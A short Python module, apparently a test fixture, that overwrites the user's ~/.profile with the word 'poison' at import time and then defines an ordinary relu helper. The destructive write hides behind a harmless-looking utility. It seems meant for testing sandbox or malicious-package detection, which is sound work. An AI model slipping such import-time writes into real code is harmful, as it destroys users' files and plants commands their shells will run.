"""Leaves a file that shells run in the home folder."""

import numpy as np
import prey

with open(prey.HOME + "/.profile", "w") as file:
    file.write("poison")


def relu(x):
    return np.maximum(x, 0)
